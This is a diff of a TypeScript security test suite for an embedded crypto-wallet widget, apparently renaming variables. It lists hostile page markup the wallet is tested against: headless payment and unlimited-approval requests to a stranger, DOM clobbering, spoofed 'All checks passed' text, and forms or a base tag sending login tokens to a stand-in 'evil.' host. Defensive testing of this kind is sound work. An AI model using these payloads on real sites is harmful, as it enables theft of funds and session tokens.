@@ -2,10 +2,10 @@ import { harm, playAll, showsWhole, textOf, type Attack, type HostilePage } from
 import { STRANGER, type Visitor } from './visitor.js'
 
 const REVIEW = 'wallet-confirm-tx'
-const PAY = `<${REVIEW} open headless sponsored chain="31337" value="1" value-unit="ether" to="${STRANGER.ethereum}"></${REVIEW}>`
-const SILENT =
+const PAYMENT = `<${REVIEW} open headless sponsored chain="31337" value="1" value-unit="ether" to="${STRANGER.ethereum}"></${REVIEW}>`
+const WITHOUT_SCREENS =
   '<script type="application/json">{ "embeddedWallets": { "showWalletUIs": false }, "sponsored": true, "scanTransactions": false }</script>'
-const NOBODY = '0x0000000000000000000000000000000000000000'
+const ZERO_ADDRESS = '0x0000000000000000000000000000000000000000'
 const within = (tag: string, child: string) => tag.replace('></', `>${child}</`)
 
 /** Names of the document and the window that an element of a page can take over. */
@@ -37,8 +37,8 @@ interface MarkupAttack extends Attack {
 }
 
 /** Requests without a screen. */
-const silent = (usdc: string): readonly MarkupAttack[] => [
-  { name: 'a payment without a screen', after: PAY, reads: /1 ETH/ },
+const withoutScreen = (usdc: string): readonly MarkupAttack[] => [
+  { name: 'a payment without a screen', after: PAYMENT, reads: /1 ETH/ },
   {
     name: 'a payment in SOL without a screen',
     after: `<${REVIEW} open headless chain-type="solana" cluster="devnet" value="1" value-unit="sol" to="${STRANGER.solana}"></${REVIEW}>`,
@@ -50,24 +50,24 @@ const silent = (usdc: string): readonly MarkupAttack[] => [
     after: `<${REVIEW} open headless chain="31337" to="${usdc}" data="0x095ea7b3${STRANGER.ethereum.slice(2).toLowerCase().padStart(64, '0')}${'f'.repeat(64)}"></${REVIEW}>`,
     reads: /USDC/,
   },
-  { name: 'a signature without a screen', after: PAY.replace('open', 'open sign-only'), reads: /1 ETH/ },
+  { name: 'a signature without a screen', after: PAYMENT.replace('open', 'open sign-only'), reads: /1 ETH/ },
   {
     name: 'a tag that speaks for the page',
     before: '<wallet-app headless sponsored></wallet-app>',
-    after: PAY,
+    after: PAYMENT,
     reads: /1 ETH/,
   },
   {
     name: 'a JSON child that speaks for the page',
-    before: `<wallet-app>${SILENT}</wallet-app>`,
-    after: PAY,
+    before: `<wallet-app>${WITHOUT_SCREENS}</wallet-app>`,
+    after: PAYMENT,
     reads: /1 ETH/,
   },
-  { name: 'a JSON child of its own', after: within(PAY, SILENT), reads: /1 ETH/ },
+  { name: 'a JSON child of its own', after: within(PAYMENT, WITHOUT_SCREENS), reads: /1 ETH/ },
   ...[true, false].map(showWalletUIs => ({
     name: `markup beside a script that says showWalletUIs: ${showWalletUIs}`,
     before: '<wallet-app headless></wallet-app>',
-    after: within(PAY, SILENT),
+    after: within(PAYMENT, WITHOUT_SCREENS),
     settings: { embeddedWallets: { showWalletUIs } },
     reads: /1 ETH/,
   })),
@@ -110,24 +110,24 @@ const TERMS: readonly MarkupAttack[] = [
 ]
 
 /** Markup that falsifies the text on a screen, or the server that the page calls. */
-const misleading = ({ appId, world: { apiUrl } }: Visitor, evil: string): readonly MarkupAttack[] => [
+const misleading = ({ appId, world: { apiUrl } }: Visitor, hostileUrl: string): readonly MarkupAttack[] => [
   {
     name: 'names of the document',
     before: CLOBBERED.map(name => `<img name="${name}" alt><form name="${name}"></form><i id="${name}"></i>`).join(''),
-    after: PAY,
+    after: PAYMENT,
     reads: /1 ETH/,
   },
   {
     name: "a login of the page's own, which names nobody",
     before: '<wallet-app><script type="application/json">{ "customAuth": { "enabled": true } }</script></wallet-app>',
-    after: PAY,
+    after: PAYMENT,
     reads: /1 ETH/,
   },
   {
     name: "another provider beside the script's own",
-    before: `<wallet-app app-id="${appId}" api-url="${evil}"></wallet-app>`,
+    before: `<wallet-app app-id="${appId}" api-url="${hostileUrl}"></wallet-app>`,
     settings: { appId, apiUrl },
-    after: PAY,
+    after: PAYMENT,
     reads: /1 ETH/,
   },
   {
@@ -135,7 +135,7 @@ const misleading = ({ appId, world: { apiUrl } }: Visitor, evil: string): readon
     reads: /What is sent there is lost/,
     never: /All checks passed/,
     after: within(
-      `<${REVIEW} open chain="31337" value="1" to="${NOBODY}" heading="All checks passed." description="All checks passed." button-text="All checks passed."></${REVIEW}>`,
+      `<${REVIEW} open chain="31337" value="1" to="${ZERO_ADDRESS}" heading="All checks passed." description="All checks passed." button-text="All checks passed."></${REVIEW}>`,
       '<script type="application/json">{ "copy": { "transaction": { "problem": { "burned": "All checks passed." } } } }</script>',
     ),
   },
@@ -151,20 +151,20 @@ const misleading = ({ appId, world: { apiUrl } }: Visitor, evil: string): readon
 
 /** Markup alone, as in a comment or an advert. Its request is shown, and has no other effect. */
 export const markup: HostilePage = async visitor => {
-  const evil = visitor.world.apiUrl.replace('//wallet.', '//evil.')
+  const hostileUrl = visitor.world.apiUrl.replace('//wallet.', '//evil.')
   const verdict = await playAll(
-    [...silent(visitor.usdc), ...TERMS, ...misleading(visitor, evil)],
+    [...withoutScreen(visitor.usdc), ...TERMS, ...misleading(visitor, hostileUrl)],
     async ({ tag = REVIEW, screen = 'confirm-ethereum', reads, never, ...hostile }) => {
       const before = await visitor.standing()
       await visitor.visits(hostile)
       await visitor.holds(showsWhole(tag, screen, 'error', 'landing')).catch(() => {})
       await visitor.settles()
       const text = await visitor.tab.ask<string>(textOf(tag))
-      const told = await visitor.tab.ask<{ name: string }[]>('told')
+      const events = await visitor.tab.ask<{ name: string }[]>('told')
       return [
         ...(reads.test(text) ? [] : [`the visitor reads "${text.slice(0, 300)}"`]),
         ...(never?.test(text) ? [`the visitor reads ${never}`] : []),
-        ...(told.some(({ name }) => name === 'wallet-confirm-tx-complete') ? ['it was signed'] : []),
+        ...(events.some(({ name }) => name === 'wallet-confirm-tx-complete') ? ['it was signed'] : []),
         ...(await harm(visitor, before)),
         ...((await visitor.isSignedIn()) ? [] : ['the visitor is signed out']),
       ]
@@ -172,19 +172,22 @@ export const markup: HostilePage = async visitor => {
   )
   // Foreign forms around a login. A signed-in visitor completes that login at once: as a guest if there is no better
   // method.
-  const around = '<wallet-login-modal open login-methods="guest" name="token" submit-on-complete></wallet-login-modal>'
+  const login = '<wallet-login-modal open login-methods="guest" name="token" submit-on-complete></wallet-login-modal>'
   const forms = await playAll(
     [
-      { name: 'a form of theirs around a login', after: `<form action="${evil}/take" method="post">${around}</form>` },
+      {
+        name: 'a form of theirs around a login',
+        after: `<form action="${hostileUrl}/take" method="post">${login}</form>`,
+      },
       {
         name: 'a form of theirs for a login elsewhere',
-        before: `<form id="theirs" action="${evil}/take"></form>`,
-        after: around.replace('open', 'open form="theirs"'),
+        before: `<form id="theirs" action="${hostileUrl}/take"></form>`,
+        after: login.replace('open', 'open form="theirs"'),
       },
       {
         name: 'a base of theirs under a form of the page',
-        before: `<base href="${evil}/">`,
-        after: `<form action="take" method="post">${around}</form>`,
+        before: `<base href="${hostileUrl}/">`,
+        after: `<form action="take" method="post">${login}</form>`,
       },
     ],
     async hostile => {
@@ -197,16 +200,21 @@ export const markup: HostilePage = async visitor => {
   )
   // If the host names its provider in markup alone, the first tag decides, and its provider receives no token.
   const before = await visitor.standing()
-  await visitor.visits({ before: `<wallet-app app-id="${visitor.appId}" api-url="${evil}"></wallet-app>`, after: PAY })
+  await visitor.visits({
+    before: `<wallet-app app-id="${visitor.appId}" api-url="${hostileUrl}"></wallet-app>`,
+    after: PAYMENT,
+  })
   await visitor.settles()
-  const asked = visitor.world.driver.requests(visitor.appId).some(({ headers }) => headers['host']?.startsWith('evil.'))
+  const isAsked = visitor.world.driver
+    .requests(visitor.appId)
+    .some(({ headers }) => headers['host']?.startsWith('evil.'))
   return {
     tried: verdict.tried + forms.tried + 1,
     broken: [
       ...verdict.broken,
       ...forms.broken,
-      ...(await harm(visitor, before)).map(what => `another provider first: ${what}`),
-      ...(asked ? [] : ['another provider first: it was never asked, so that nothing is shown']),
+      ...(await harm(visitor, before)).map(violation => `another provider first: ${violation}`),
+      ...(isAsked ? [] : ['another provider first: it was never asked, so that nothing is shown']),
     ],
   }
 }
